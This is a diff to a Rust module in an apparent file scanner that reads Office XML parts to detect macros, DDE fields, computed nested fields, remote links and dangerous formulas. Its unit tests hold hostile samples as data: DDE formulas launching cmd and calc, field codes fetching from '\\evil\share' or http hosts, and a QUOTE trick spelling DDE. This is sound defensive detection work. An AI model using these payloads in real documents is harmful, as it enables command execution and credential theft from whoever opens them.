@@ -1,17 +1,28 @@
-//! The XML parts of an Office package, read as they inflate, for what makes a document act when
-//! opened: relationships to a macro project, controls, embedded or linked OLE objects and remote
-//! templates or frames; content types that declare them (whatever the part is named); and DDE
-//! fields, whose code Word runs as a command line, however the field code is split into runs or
-//! spelt with character references.
+//! The XML parts of a package, read as they inflate: tags, the text of field instructions and
+//! formulas, and the fields a document nests, for `rules` to judge. Parts that do not start as
+//! XML (images, binary parts) are left alone.
 
+use super::rules::{self, add, attribute, decode, local};
 use crate::i18n::FileMsg;
 
 /// A tag longer than this is not one an Office application writes; it cannot be judged whole.
 const MAX_TAG: usize = 64 << 10;
-/// Enough of a field code to know what field it is.
-const MAX_FIELD: usize = 256;
+/// Enough of a field code or a formula to know what it does.
+const MAX_TEXT: usize = 1024;
 
-/// Reads one part. Parts that do not start as XML are left alone.
+/// Text being kept: a field's instruction, or a cell's formula.
+#[derive(Clone, Copy, PartialEq)]
+enum Capture {
+    Instruction,
+    Formula,
+}
+
+/// A field being read: its instruction so far, and whether its result has begun.
+struct Field {
+    code: Vec<u8>,
+    separated: bool,
+}
+
 #[derive(Default)]
 pub(super) struct PartReader {
     /// None until the first byte that is not white space: XML or not.
@@ -20,10 +31,10 @@ pub(super) struct PartReader {
     /// an attribute value may hold `>`.
     tag: Option<Vec<u8>>,
     quote: Option<u8>,
-    /// The field code being assembled from `instrText` runs, between a field's begin and its
-    /// separator.
-    field: Option<Vec<u8>>,
-    in_instruction: bool,
+    /// Fields begun and not yet ended, innermost last: Word nests them.
+    fields: Vec<Field>,
+    capture: Option<Capture>,
+    formula: Vec<u8>,
     pub(super) unchecked: Option<FileMsg>,
 }
 
@@ -48,15 +59,26 @@ impl PartReader {
         self.xml != Some(false)
     }
 
+    /// Text between tags (or in a CDATA section), kept where it is a field code or a formula.
+    fn text(&mut self, bytes: &[u8]) {
+        let kept = match self.capture {
+            Some(Capture::Instruction) => match self.fields.last_mut() {
+                Some(field) if !field.separated => &mut field.code,
+                _ => return,
+            },
+            Some(Capture::Formula) => &mut self.formula,
+            None => return,
+        };
+        let room = MAX_TEXT.saturating_sub(kept.len());
+        kept.extend(bytes.iter().take(room));
+    }
+
     fn byte(&mut self, byte: u8, found: &mut Vec<FileMsg>) {
         let Some(tag) = &mut self.tag else {
             if byte == b'<' {
                 self.tag = Some(Vec::new());
-            } else if self.in_instruction
-                && let Some(field) = &mut self.field
-                && field.len() < MAX_FIELD
-            {
-                field.push(byte);
+            } else {
+                self.text(&[byte]);
             }
             return;
         };
@@ -70,11 +92,7 @@ impl PartReader {
             } else if !comment && tag.ends_with(b"]]>") {
                 let text = tag[8..tag.len() - 3].to_vec();
                 self.tag = None;
-                if self.in_instruction
-                    && let Some(field) = &mut self.field
-                {
-                    field.extend(text.iter().take(MAX_FIELD.saturating_sub(field.len())));
-                }
+                self.text(&text);
             } else if tag.len() > MAX_TAG {
                 self.unchecked.get_or_insert(FileMsg::OfficeUnreadable);
                 self.tag = None;
@@ -106,183 +124,58 @@ impl PartReader {
             .iter()
             .position(|b| b.is_ascii_whitespace() || *b == b'/' && !closing)
             .unwrap_or(tag.len());
-        let name = local(tag[usize::from(closing)..name_end].as_ref());
+        let name = local(&tag[usize::from(closing)..name_end]);
         let self_closing = tag.ends_with(b"/");
+        rules::any_tag(tag, found);
         match (name, closing) {
-            (b"relationship", false) => relationship(tag, found),
-            (b"override" | b"default", false) => {
-                let kind = attribute(tag, b"contenttype").unwrap_or_default();
-                content_type(&kind, found);
-            }
             (b"fldchar", false) => match attribute(tag, b"fldchartype").as_deref() {
-                Some("begin") => self.field = Some(Vec::new()),
-                Some("separate" | "end") => {
-                    if let Some(code) = self.field.take() {
-                        field(&decode(&code), found);
-                    }
+                Some("begin") => self.begin_field(found),
+                Some("separate") => self.separate_field(found),
+                Some("end") => {
+                    self.separate_field(found);
+                    self.fields.pop();
                 }
                 _ => {}
             },
-            (b"instrtext", false) => self.in_instruction = !self_closing,
-            (b"instrtext", true) => self.in_instruction = false,
-            (b"fldsimple", false) => field(&attribute(tag, b"instr").unwrap_or_default(), found),
-            (b"ddelink", false) => add(found, FileMsg::OfficeDde),
+            (b"instrtext", false) if !self_closing => self.capture = Some(Capture::Instruction),
+            (b"f" | b"definedname", false) if !self_closing => {
+                self.formula.clear();
+                self.capture = Some(Capture::Formula);
+            }
+            (b"instrtext", true) => self.capture = None,
+            (b"f" | b"definedname", true) => {
+                self.capture = None;
+                rules::formula(&decode(&self.formula), found);
+            }
+            (_, false) => rules::element(name, tag, found),
             _ => {}
         }
     }
-}
 
-fn add(found: &mut Vec<FileMsg>, reason: FileMsg) {
-    if !found.contains(&reason) {
-        found.push(reason);
+    fn begin_field(&mut self, found: &mut Vec<FileMsg>) {
+        // A field nested before the outer field's first word has ended makes that word: Word
+        // reads the outer field's type with the inner one's result in it (`{ D{QUOTE 68 69} … }`).
+        if let Some(outer) = self.fields.last()
+            && !outer.separated
+            && !decode(&outer.code)
+                .trim_start()
+                .contains(char::is_whitespace)
+        {
+            add(found, FileMsg::OfficeComputedField);
+        }
+        self.fields.push(Field {
+            code: Vec::new(),
+            separated: false,
+        });
     }
-}
 
-/// The name without its namespace prefix: any prefix may stand for the Office namespaces.
-fn local(name: &[u8]) -> &[u8] {
-    name.rsplit(|&b| b == b':').next().unwrap_or(name)
-}
-
-/// An attribute's value, found by its local name, with character references decoded.
-fn attribute(tag: &[u8], wanted: &[u8]) -> Option<String> {
-    let mut at = 0;
-    while at < tag.len() {
-        let rest = &tag[at..];
-        let equals = rest.iter().position(|&b| b == b'=')?;
-        let name_start = rest[..equals]
-            .iter()
-            .rposition(|b| b.is_ascii_whitespace())
-            .map_or(0, |p| p + 1);
-        let name = local(rest[name_start..equals].trim_ascii());
-        let after = &rest[equals + 1..];
-        let skipped = after.len() - after.trim_ascii_start().len();
-        let after = after.trim_ascii_start();
-        let quote = *after.first()?;
-        if !matches!(quote, b'"' | b'\'') {
-            return None;
+    fn separate_field(&mut self, found: &mut Vec<FileMsg>) {
+        if let Some(field) = self.fields.last_mut()
+            && !field.separated
+        {
+            field.separated = true;
+            rules::field(&decode(&field.code), found);
         }
-        let end = after[1..].iter().position(|&b| b == quote)? + 1;
-        if name == wanted {
-            return Some(decode(&after[1..end]));
-        }
-        at += equals + 1 + skipped + end + 1;
-    }
-    None
-}
-
-/// Character references (`&#68;`, `&#x44;`, `&amp;` …) decoded, as an XML reader does.
-fn decode(text: &[u8]) -> String {
-    let text = String::from_utf8_lossy(text);
-    let mut out = String::with_capacity(text.len());
-    let mut rest = text.as_ref();
-    while let Some(start) = rest.find('&') {
-        out.push_str(&rest[..start]);
-        let after = &rest[start + 1..];
-        let Some(end) = after.find(';').filter(|&e| e <= 12) else {
-            out.push('&');
-            rest = after;
-            continue;
-        };
-        let reference = &after[..end];
-        let decoded = match reference {
-            "amp" => Some('&'),
-            "lt" => Some('<'),
-            "gt" => Some('>'),
-            "quot" => Some('"'),
-            "apos" => Some('\''),
-            _ => reference
-                .strip_prefix("#x")
-                .map(|hex| u32::from_str_radix(hex, 16))
-                .or_else(|| reference.strip_prefix('#').map(str::parse))
-                .and_then(Result::ok)
-                .and_then(char::from_u32),
-        };
-        match decoded {
-            Some(c) => out.extend(c.to_lowercase()),
-            None => out.push('&'),
-        }
-        rest = if decoded.is_some() {
-            &after[end + 1..]
-        } else {
-            after
-        };
-    }
-    out.push_str(rest);
-    out
-}
-
-/// A field code Word would run: DDE and DDEAUTO start another program.
-fn field(code: &str, found: &mut Vec<FileMsg>) {
-    let code = code.trim_start_matches(|c: char| c.is_whitespace() || c == '\\');
-    if code.starts_with("dde") {
-        add(found, FileMsg::OfficeDde);
-    }
-}
-
-fn content_type(kind: &str, found: &mut Vec<FileMsg>) {
-    if kind.contains("vbaproject") || kind.contains("macroenabled") {
-        add(found, FileMsg::OfficeMacros);
-    } else if kind.contains("activex") {
-        add(found, FileMsg::OfficeActiveX);
-    } else if kind.contains("oleobject") {
-        let name = "oleObject".to_string();
-        add(found, FileMsg::OfficeEmbedded { name });
-    }
-}
-
-/// A target another host serves: fetching it hands over the reader's Windows credentials, or
-/// loads what that host chooses (a template with macros, a page).
-fn remote(target: &str) -> bool {
-    let target = target.trim();
-    let schemes = ["http:", "https:", "ftp:", "mhtml:", "smb:", "\\\\", "//"];
-    schemes.iter().any(|s| target.starts_with(s))
-        || target
-            .strip_prefix("file://")
-            .is_some_and(|rest| !rest.starts_with('/'))
-}
-
-/// Relationships that fetch their target when the document opens, as read (lower case) and as
-/// Office names them.
-const LINKS_OUT: [(&str, &str); 5] = [
-    ("attachedtemplate", "attachedTemplate"),
-    ("frame", "frame"),
-    ("subdocument", "subDocument"),
-    ("externallinkpath", "externalLinkPath"),
-    ("afchunk", "aFChunk"),
-];
-
-fn relationship(tag: &[u8], found: &mut Vec<FileMsg>) {
-    let kind = attribute(tag, b"type").unwrap_or_default();
-    let kind = kind.rsplit('/').next().unwrap_or_default();
-    let external = attribute(tag, b"targetmode").is_some_and(|m| m.trim() == "external");
-    let target = attribute(tag, b"target").unwrap_or_default();
-    match kind {
-        "vbaproject" => add(found, FileMsg::OfficeMacros),
-        "control" | "activexcontrol" | "activexcontrolbinary" => {
-            add(found, FileMsg::OfficeActiveX);
-        }
-        "oleobject" if external => add(
-            found,
-            FileMsg::OfficeLinks {
-                kind: "oleObject".into(),
-            },
-        ),
-        "oleobject" => {
-            let name = target.rsplit(['/', '\\']).next().unwrap_or_default();
-            add(
-                found,
-                FileMsg::OfficeEmbedded {
-                    name: name.to_string(),
-                },
-            );
-        }
-        _ if external && remote(&target) => {
-            if let Some((_, kind)) = LINKS_OUT.iter().find(|(lower, _)| *lower == kind) {
-                let kind = kind.to_string();
-                add(found, FileMsg::OfficeLinks { kind });
-            }
-        }
-        _ => {}
     }
 }
 
@@ -347,9 +240,60 @@ mod tests {
     }
 
     #[test]
+    fn fields_that_fetch_or_are_computed_and_formulas_that_run_are_found() {
+        let field = |code: &str| {
+            read(&format!(
+                r#"<w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText><w:fldChar w:fldCharType="end"/>"#
+            ))
+        };
+        let links = |kind: &str| vec![FileMsg::OfficeLinks { kind: kind.into() }];
+        assert_eq!(
+            field(r#" INCLUDEPICTURE "\\\\evil\\share\\x.png" \d "#),
+            links("INCLUDEPICTURE")
+        );
+        assert_eq!(
+            field(r#" INCLUDETEXT "http://x.example/a.docx" "#),
+            links("INCLUDETEXT")
+        );
+        assert_eq!(field(r#" INCLUDEPICTURE "C:\\图片\\1.png" "#), vec![]);
+        let computed = r#"<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/>"#;
+        assert_eq!(read(computed), vec![FileMsg::OfficeComputedField]);
+        let spelt = computed.replace(
+            "<w:fldChar w:fldCharType=\"begin\"/><w:fldChar",
+            "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>D</w:instrText><w:fldChar",
+        );
+        assert_ne!(spelt, computed);
+        assert_eq!(read(&spelt), vec![FileMsg::OfficeComputedField]);
+        let nested = r#"<w:fldChar w:fldCharType="begin"/><w:instrText>IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>MERGEFIELD 姓名</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> = "张" "是" "否"</w:instrText><w:fldChar w:fldCharType="end"/>"#;
+        assert_eq!(read(nested), vec![]);
+        assert_eq!(
+            read("<c><f>cmd|' /C calc'!A0</f></c>"),
+            vec![FileMsg::OfficeDde]
+        );
+        assert_eq!(
+            read("<c><f>WEBSERVICE(\"http://x/\")</f></c>"),
+            links("WEBSERVICE")
+        );
+        assert_eq!(read("<c><f>SUM(A1:A9)</f></c>"), vec![]);
+        let name =
+            r#"<definedNames><definedName name="x">cmd|'/c calc'!A0</definedName></definedNames>"#;
+        assert_eq!(read(name), vec![FileMsg::OfficeDde]);
+        let share = r#"<c><f>'\\evil\share\[x.xlsx]Sheet1'!A1</f></c>"#;
+        assert_eq!(read(share), links("formula"));
+        let click = r#"<a:hlinkClick r:id="" action="ppaction://pro&#x67;ram"/>"#;
+        assert_eq!(read(click), vec![FileMsg::OfficeRuns]);
+        let link = r#"<w:fldChar w:fldCharType="begin"/><w:instrText> LINK Excel.Sheet.8 "\\\\evil\\s\\x.xls" "Sheet1!R1C1" \a </w:instrText><w:fldChar w:fldCharType="end"/>"#;
+        assert_eq!(read(link), links("LINK"));
+    }
+
+    #[test]
     fn a_macro_project_is_found_by_its_content_type_whatever_its_name() {
         let types = r#"<Types><Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
         assert_eq!(read(types), vec![FileMsg::OfficeMacros]);
+        let xlm = r#"<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>"#;
+        assert_eq!(read(xlm), vec![FileMsg::OfficeMacros]);
+        let xlsb = r#"<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>"#;
+        assert_eq!(read(xlsb), vec![]);
         // A part that is not XML is not read.
         assert_eq!(
             read("\u{89}PNG <Relationship Type=\"x/vbaProject\"/>"),
